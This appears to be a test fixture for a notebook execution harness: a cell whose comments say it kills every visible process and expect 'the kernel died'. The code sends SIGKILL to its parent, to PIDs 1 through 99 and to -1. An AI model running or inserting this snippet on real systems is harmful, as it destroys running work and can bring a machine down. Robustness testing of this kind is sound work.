# why = "kills every process it can see, its parents first"
# lost = ["answer"]
# says = "the kernel died"
# %% answer
import os
import signal

for pid in [os.getppid(), 1, 2, *range(3, 100), -1]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
import time
time.sleep(60)
